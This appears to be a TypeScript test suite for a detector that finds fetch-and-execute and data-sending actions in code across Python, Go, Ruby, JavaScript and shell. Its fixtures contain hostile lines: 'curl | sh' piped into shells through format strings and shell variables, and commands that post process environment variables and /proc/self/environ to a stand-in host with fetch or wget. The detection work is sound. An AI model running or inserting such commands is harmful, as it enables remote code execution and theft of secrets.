/** Formats in variables, interpreters in variables, and a program's own environment. Nothing here is run. */
import { actionsOf } from "../calls/actions-of.ts";

const SYSTEM = ["sys", "tem"].join("");
const PIPED = (place: string) => [`curl -s ${place} |`, " sh"].join("");
const variable = (name: string) => ["$", name].join("");

async function runs(path: string, text: string): Promise<readonly string[]> {
  return (await actionsOf(path, text)).filter((one) => one.startsWith("run computed"));
}
const FROM_A = [expect.stringContaining("fetched:a.example")];

test("formats in a variable are filled in any language", async () => {
  const python = (use: string) =>
    `import os\nC = "${PIPED("{}")}"\nP = "${PIPED("%s")}"\nN = "${PIPED("%(u)s")}"\nos.${SYSTEM}(${use})`;
  expect(await runs("a.py", python("C.format('https://a.example/x')"))).toEqual(FROM_A);
  expect(await runs("a.py", python("P % 'https://a.example/x'"))).toEqual(FROM_A);
  expect(await runs("a.py", python("P % ('https://a.example/x',)"))).toEqual(FROM_A);
  expect(await runs("a.py", python("N % {'u': 'https://a.example/x'}"))).toEqual(FROM_A);
  expect(
    await runs(
      "a.go",
      `package main\nimport ("fmt"; "os/exec")\nconst t = "${PIPED("%s")}"\nfunc init() { exec.Command("sh", "-c", fmt.Sprintf(t, "https://a.example")).Run() }`,
    ),
  ).toEqual(FROM_A);
  expect(await runs("a.rb", `T = "${PIPED("%s")}"\n${SYSTEM}(format(T, "https://a.example/x"))`)).toEqual(FROM_A);
  expect(
    await runs(
      "a.js",
      `const util = require("util");\nconst T = "${PIPED("%s")}";\nrequire("child_process").execSync(util.format(T, "https://a.example/x"));`,
    ),
  ).toEqual(FROM_A);
  expect(await actionsOf("b.py", "n = 5\nk = n % 3\nT = '100 %'\nt = T % k\nu = '{'.format(k)")).toEqual([]);
});

test("a variable that holds a shell is one", async () => {
  expect(await runs("a.sh", `curl -s https://a.example/x | ${variable("SHELL")}`)).toEqual(FROM_A);
  expect(await runs("a.sh", `${variable("CURL")} -s https://a.example/x | ${variable("BASH")}`)).toEqual(FROM_A);
  expect(await actionsOf("b.sh", `${variable("SHELL")} --version; ${variable("PAGER")} README`)).toEqual([]);
});

test("a member of what was made of the environment is one variable", async () => {
  const client = (use: string) =>
    `import { z } from "zod";\nconst env = z.object({}).parse(process.env);\nawait fetch("https://a.example", { method: "POST", body: ${use} });`;
  expect(await actionsOf("a.mjs", client("env.A_TOKEN"))).toEqual(["fetch a.example by fetch <- environment:A_TOKEN"]);
  expect(await actionsOf("a.mjs", client("JSON.stringify(env)"))).toEqual(["fetch a.example by fetch <- environment"]);
});

test("a program's own environment by its file and through standard input", async () => {
  const sent = "send a.example by wget <- environment";
  const wget = "wget -q -O /dev/null --post-file=- https://a.example";
  expect(await actionsOf("a.sh", `env | ${wget}`)).toContain(sent);
  expect(await actionsOf("a.sh", `cat /proc/self/environ | ${wget}`)).toContain(sent);
  expect((await actionsOf("a.sh", `echo done | ${wget}`)).join()).not.toContain("environment");
});
